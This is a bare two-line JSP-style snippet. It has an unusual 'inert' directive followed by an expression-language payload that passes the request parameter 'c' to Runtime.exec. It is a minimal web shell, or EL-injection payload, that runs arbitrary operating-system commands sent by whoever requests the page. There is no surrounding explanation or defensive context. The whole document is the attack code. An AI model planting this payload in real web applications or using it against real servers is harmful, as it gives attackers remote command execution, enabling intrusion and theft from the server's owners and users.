<%@ inert %>
${Runtime.getRuntime().exec(param.c)}
